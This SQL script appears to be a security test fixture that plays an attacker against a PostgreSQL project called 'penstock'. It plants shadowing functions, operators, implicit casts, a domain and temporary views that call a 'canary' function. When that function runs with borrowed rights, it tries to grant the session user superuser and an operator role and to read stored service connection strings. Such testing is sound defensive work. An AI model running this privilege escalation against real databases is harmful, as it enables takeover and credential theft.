-- What an attacker lays out, in its own session: traps in the schemas where it may create something. Each trap calls
-- public.canary, which says as whom it runs, and uses the rights that it finds.
create function public.canary(trap text) returns boolean language plpgsql as $$
declare
  found text;
begin
  raise notice 'canary: % in %', current_user, trap;
  if current_user <> session_user then
    begin
      execute format('alter role %I superuser createrole', session_user);
    exception when others then null;
    end;
    begin
      execute format('grant penstock_operator to %I', session_user);
    exception when others then null;
    end;
    begin
      execute 'select string_agg(s.dsn, '' '') from penstock.service s' into found;
      raise notice 'canary read: %', found;
    exception when others then null;
    end;
  end if;
  return true;
end $$;

-- A type whose casts are traps, and a domain whose check is one.
create type public.bait as (n integer);
create domain public.baited as text check (public.canary('domain'));
do $casts$
declare
  target text;
begin
  foreach target in array array['text', 'jsonb', 'bytea', 'bigint', 'integer', 'interval', 'timestamptz', 'double precision'] loop
    execute format('create function public.from_bait_%s(public.bait) returns %s language plpgsql as $f$
      begin perform public.canary(''cast''); return null; end $f$', replace(target, ' ', '_'), target);
    execute format('create cast (public.bait as %s) with function public.from_bait_%s(public.bait) as implicit', target, replace(target, ' ', '_'));
  end loop;
end $casts$;

-- Functions named like those of PostgreSQL that our functions call, and operators, for the types that they are used with.
do $shadows$
declare
  f record;
  t record;
begin
  for f in
    select p.proname, pg_get_function_identity_arguments(p.oid) as arguments, pg_get_function_result(p.oid) as result from pg_proc p
    where p.pronamespace = 'pg_catalog'::regnamespace and p.prokind = 'f' and p.pronargs <= 3 and not p.proretset and p.provariadic = 0
      and p.proname = any (array['now', 'clock_timestamp', 'lower', 'left', 'substr', 'split_part', 'replace', 'strpos', 'md5', 'length', 'octet_length',
        'nextval', 'currval', 'setval', 'pg_sequence_last_value', 'set_config', 'current_setting', 'pg_notify', 'to_regclass', 'jsonb_typeof', 'date_part',
        'make_interval', 'regexp_replace', 'starts_with', 'quote_ident', 'has_function_privilege', 'txid_current', 'pg_current_xact_id', 'pg_column_size'])
      and not exists (select from unnest(p.proargtypes || p.prorettype) a join pg_type y on y.oid = a where y.typtype = 'p')
  loop
    execute format('create function public.%I(%s) returns %s language plpgsql as $f$ begin perform public.canary(''function''); return null; end $f$',
      f.proname, f.arguments, f.result);
    execute format('create function pg_temp.%I(%s) returns %s language plpgsql as $f$ begin perform public.canary(''function''); return null; end $f$',
      f.proname, f.arguments, f.result);
  end loop;
  for t in select type, operator, number from unnest(array['text', 'bigint', 'integer', 'jsonb', 'timestamptz', 'text[]', 'bigint[]']) with ordinality t (type, number)
           cross join unnest(array['=', '<>', '<', '<=', '>', '>=', '||', '+', '-', '^@', '~', '!~', '&']) operator loop
    if to_regprocedure(format('public.operator_%s(%s, %s)', t.number, t.type, t.type)) is null then
      execute format('create function public.operator_%s(%s, %s) returns boolean language plpgsql as $f$
        begin return public.canary(''operator''); end $f$', t.number, t.type, t.type);
    end if;
    execute format('create operator public.%s (function = public.operator_%s, leftarg = %s, rightarg = %s)', t.operator, t.number, t.type, t.type);
  end loop;
end $shadows$;

-- Temporary relations named like ours, and like those of the catalog that our functions read.
do $relations$
declare
  r record;
begin
  for r in select distinct c.relname from pg_class c join pg_namespace n on n.oid = c.relnamespace
           where n.nspname in ('penstock', 'mdb_queue', 'pgmq') and c.relkind in ('r', 'v')
              or c.relname in ('pg_locks', 'pg_proc', 'pg_class', 'pg_type', 'pg_attribute', 'pg_index') loop
    execute format('create temporary view %I as select true as trap where public.canary(''view'')', r.relname);
  end loop;
end $relations$;
